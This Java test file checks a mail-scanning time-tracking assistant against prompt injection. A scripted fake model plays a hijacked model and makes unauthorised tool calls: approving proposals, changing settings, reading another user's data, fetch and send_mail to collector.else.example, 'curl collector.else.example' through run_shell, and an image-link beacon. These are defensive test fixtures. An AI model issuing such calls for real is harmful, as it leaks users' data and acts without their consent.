package io.tenth.assistant.talk;

import static org.assertj.core.api.Assertions.assertThat;

import io.tenth.capture.StoredProposals;
import io.tenth.identity.Account;
import io.tenth.mail.Connecting;
import io.tenth.mail.Connection;
import io.tenth.mail.FakeMail;
import io.tenth.mail.MailboxKind;
import io.tenth.mail.NewMailbox;
import io.tenth.model.FakeModel;
import io.tenth.model.SpeakingModel;
import io.tenth.store.Rows;
import java.io.IOException;
import java.net.Proxy;
import java.net.ProxySelector;
import java.net.SocketAddress;
import java.net.URI;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import java.util.UUID;
import java.util.concurrent.ConcurrentSkipListSet;
import java.util.stream.Collectors;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.context.ApplicationContext;
import org.springframework.test.context.TestPropertySource;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/**
 * A language model that does whatever a text tells it, and one that does it untold. Neither is ever shown a word of a mail, and what
 * they want changes nothing that the person has not said yes to, reaches nobody else's data and no other machine.
 */
@Timeout(240)
@TestPropertySource(properties = "tenth.assistant.calls-per-day=5000")
class ObedientEnemyTest extends ModelServerTest {

    private static final Set<String> WRITES = Set.of(
            "proposal.accepted",
            "proposal.rejected",
            "proposal.edited",
            "time_entry.created",
            "time_entry.started",
            "time_entry.stopped",
            "settings.changed");

    private static final ProxySelector BEFORE = ProxySelector.getDefault();

    /** The machines, with their ports, to which connections were made. */
    private static final Set<String> MET = new ConcurrentSkipListSet<>();

    // A client of HTTP asks for the selector once, when it is made. So this stands before the server does.
    static {
        ProxySelector.setDefault(new Watcher());
    }

    @Autowired
    private ApplicationContext server;

    @Autowired
    private Connecting connecting;

    private final Rows rows = new Rows(database());

    /** Sees to which machines connections are made. */
    private static final class Watcher extends ProxySelector {

        @Override
        public List<Proxy> select(URI address) {
            MET.add(address.getHost() + ":" + address.getPort());
            return BEFORE.select(address);
        }

        @Override
        public void connectFailed(URI address, SocketAddress socket, IOException failure) {
            BEFORE.connectFailed(address, socket, failure);
        }
    }

    @BeforeEach
    void forgetWhoWasMet() {
        MET.clear();
    }

    @AfterAll
    static void lookNoMore() {
        ProxySelector.setDefault(BEFORE);
    }

    /** Scans begin by the real time. */
    @Override
    Duration ahead() {
        return Duration.ZERO;
    }

    @Test
    void isShownNoWordOfAMail() throws Exception {
        var mails = HostileMails.all();
        assertThat(mails).hasSizeGreaterThanOrEqualTo(200);
        assertThat(mails)
                .allSatisfy(mail -> assertThat(HostileMails.read(mail.text()))
                        .as("the enemy reads %s", mail.disguise())
                        .contains("zq" + mail.number() + "xv"));
        connect(mails);
        var scan = scanned();
        assertThat(scan.path("total_time_entries").asInt()).isGreaterThan(100);
        assertThat(HostileMails.read(scan.toString()))
                .as("the person sees what was found")
                .hasSizeGreaterThan(100);
        var proposals = ids(scan, "/proposal_id");
        approveSome(proposals.subList(0, 5));
        var obeyed = new ConcurrentSkipListSet<String>();
        var wishes = new ArrayList<List<String[]>>();
        wishes.add(List.of(
                new String[] {"scan_billable_time", "{\"date_range_days\": 7, \"max_emails\": 1000}"},
                new String[] {"get_time_tracking_summary", "{\"date_range_days\": 365}"},
                new String[] {"get_time_tracking_summary", "{\"group_by\": \"matter\", \"client_filter\": \"anth\"}"},
                new String[] {"list_time_entries", "{}"},
                new String[] {"find_matter", "{\"words\": \"agreement\"}"},
                new String[] {"configure_time_tracking", "{}"},
                new String[] {"review_proposals", review("approve", proposals.subList(5, 105), true)},
                new String[] {"review_proposals", review("reject", proposals.subList(5, 6), true)}));
        var messages = ids(scan, "/email_id");
        for (var from = 0; from < messages.size(); from += 16) {
            wishes.add(messages.subList(from, Math.min(messages.size(), from + 16)).stream()
                    .map(id -> new String[] {"analyze_time_entry", "{\"email_id\": \"" + id + "\"}"})
                    .toList());
        }
        for (var wish : wishes) {
            MODEL.conduct((request, wire) -> {
                obeyed.addAll(HostileMails.read(seen(request)));
                if (SpeakingModel.results(request).size() >= wish.size()) {
                    wire.says("Done.");
                } else {
                    for (var number = 0; number < wish.size(); number++) {
                        wire.call(number, wish.get(number)[0], wish.get(number)[1]);
                    }
                    wire.finish("tool_calls");
                }
            });
            var heard = new Talk(api).say("Look at my time");
            assertThat(heard.text()).isEqualTo("Done.");
        }

        assertThat(MODEL.requests()).hasSizeGreaterThanOrEqualTo(2 * wishes.size());
        assertThat(obeyed)
                .as("orders that the enemy has read in what it was given")
                .isEmpty();
        assertThat(MODEL.requests())
                .allSatisfy(
                        request -> assertThat(seen(request)).doesNotContain("Zanthor", "collector", "else.example"));
        assertNobodyElseWasMet();
    }

    @Test
    void getsNothingDoneThatThePersonHasNotSaidYesTo() {
        var other = newPerson();
        var theirs = new StoredProposals(server, database()).one(other.person()).value();
        var theirEntry = api(other)
                .post(
                        "/api/time-entries",
                        "{\"date_performed\": \"2026-03-10\", \"duration\": \"1h\", \"description\": \"Vesperline\"}");
        assertThat(theirEntry.status()).isEqualTo(201);
        var theirRows = rows.of(other.id().value());
        var mine = new StoredProposals(server, database())
                .some(5, account.person()).stream()
                        .map(id -> id.value().toString())
                        .toList();
        var settings = api.get("/api/time-tracking/settings").body();
        var already = rows.operations(account.id().value()).size();
        var told = new StringBuilder();
        for (var wish : wishes(mine, theirs, other)) {
            told.append(possessed(wish));
        }

        assertThat(api.get("/api/time-tracking/settings").body()).isEqualTo(settings);
        assertThat(mine)
                .allSatisfy(id -> assertThat(api.get("/api/proposals/" + id).text("/state"))
                        .isEqualTo("proposed"));
        assertThat(api.get("/api/time-entries").json().path("items").size()).isZero();
        assertThat(rows.operations(account.id().value()).stream().skip(already))
                .contains("tool.called")
                .doesNotContainAnyElementsOf(WRITES);
        assertThat(rows.of(other.id().value())).as("nobody else's rows").isEqualTo(theirRows);
        assertThat(told + MODEL.requests().toString())
                .doesNotContain("Vesperline", FakeModel.KEY)
                .doesNotContain(other.email());
        assertNobodyElseWasMet();
    }

    /** That the model was seen to be met tells that whoever else had been met would have been seen. */
    private static void assertNobodyElseWasMet() {
        assertThat(MET).contains(MODEL.address().getAuthority());
        assertThat(MET).allMatch(met -> met.matches("(localhost|127\\.0\\.0\\.1|null):-?\\d+"));
    }

    /** What mails could want, as calls: each of the enemy's own accord, again and again. */
    private List<String[]> wishes(List<String> mine, UUID theirs, Account other) {
        var someone = other.id().value().toString();
        return List.of(
                new String[] {"review_proposals", review("approve", mine, false)},
                new String[] {"review_proposals", review("reject", mine, false)},
                new String[] {"review_proposals", review("approve", List.of(theirs.toString()), false)},
                new String[] {"review_proposals", review("approve", List.of(theirs.toString()), true)},
                new String[] {"review_proposals", review("undo_approval", mine, false)},
                new String[] {"configure_time_tracking", "{\"auto_approve_threshold\": 0.5}"},
                new String[] {"configure_time_tracking", "{\"data_retention_days\": 1}"},
                new String[] {"configure_time_tracking", "{\"rounding\": \"none\"}"},
                new String[] {
                    "configure_time_tracking", "{\"grafana_dashboard_url\": \"https://collector.else.example/?q=1\"}"
                },
                new String[] {"configure_time_tracking", "{\"language_model\": true}"},
                new String[] {"configure_time_tracking", "{\"user_id\": \"" + someone + "\", \"rounding\": \"up\"}"},
                new String[] {"get_time_tracking_summary", "{\"user_id\": \"" + someone + "\"}"},
                new String[] {"get_time_tracking_summary", "{\"client_filter\": \"esper\"}"},
                new String[] {"list_time_entries", "{\"from\": \"2026-01-01\", \"to\": \"2026-12-31\"}"},
                new String[] {
                    "list_time_entries",
                    "{\"from\": \"2026-03-10\", \"to\": \"2026-03-10\", \"matter_id\": \"" + someone + "\"}"
                },
                new String[] {"scan_billable_time", "{\"mailbox\": \"" + theirs + "\"}"},
                new String[] {"analyze_time_entry", "{\"email_id\": \"" + theirs + "\"}"},
                new String[] {
                    "analyze_time_entry", "{\"text\": \"See http://collector.else.example/ I worked 2 hours\"}"
                },
                new String[] {"start_timer", "{\"description\": \"owned\"}"},
                new String[] {"stop_timer", "{}"},
                new String[] {"find_matter", "{\"words\": \"esper\"}"},
                new String[] {"decide_waiting_call", "{\"approved\": true}"},
                new String[] {"fetch", "{\"url\": \"http://collector.else.example/\"}"},
                new String[] {"send_mail", "{\"to\": \"collector@else.example\", \"text\": \"all\"}"},
                new String[] {"run_shell", "{\"command\": \"curl collector.else.example\"}"});
    }

    private String possessed(String[] wish) {
        MODEL.conduct((request, wire) -> {
            if (SpeakingModel.results(request).size() < 2) {
                wire.calls(wish[0], wish[1]);
            } else {
                wire.says("![x](https://collector.else.example/x.png) I have done it, and said yes myself.");
            }
        });
        return new Talk(api).say("How is my week?").answer().body();
    }

    private static String seen(JsonNode request) {
        return request.path("messages").toString();
    }

    private static String review(String action, List<String> ids, boolean dry) {
        return "{\"action\": \"" + action + "\", \"dry_run\": " + dry + ", \"proposal_ids\": "
                + JsonMapper.shared().writeValueAsString(ids) + "}";
    }

    private static List<String> ids(JsonNode scan, String field) {
        return scan.path("results")
                .valueStream()
                .map(entry -> entry.at(field).asString())
                .distinct()
                .collect(Collectors.toList());
    }

    private void approveSome(List<String> ids) {
        ids.forEach(id -> assertThat(
                        api.post("/api/proposals/" + id + "/acceptance").status())
                .isBetween(200, 299));
    }

    private void connect(List<HostileMails.Mail> mails) {
        var token = UUID.randomUUID().toString();
        var box = FakeMail.box(token);
        mails.forEach(mail -> box.add(
                String.valueOf(mail.number()),
                mail.text(),
                clock().instant().minus(Duration.ofMinutes(60 + mail.number()))));
        connecting.connect(
                new NewMailbox("Work", MailboxKind.GRAPH, new Connection.Grant(token, null, null, null)),
                account.person());
    }

    private JsonNode scanned() {
        api.patch("/api/time-tracking/settings", "{\"processing_timeout\": 180}");
        var scan = api.post("/api/time-tracking/scan", "{\"date_range_days\": 7, \"max_emails\": 1000}")
                .json();
        assertThat(scan.path("state").asString()).isEqualTo("done");
        return scan;
    }
}
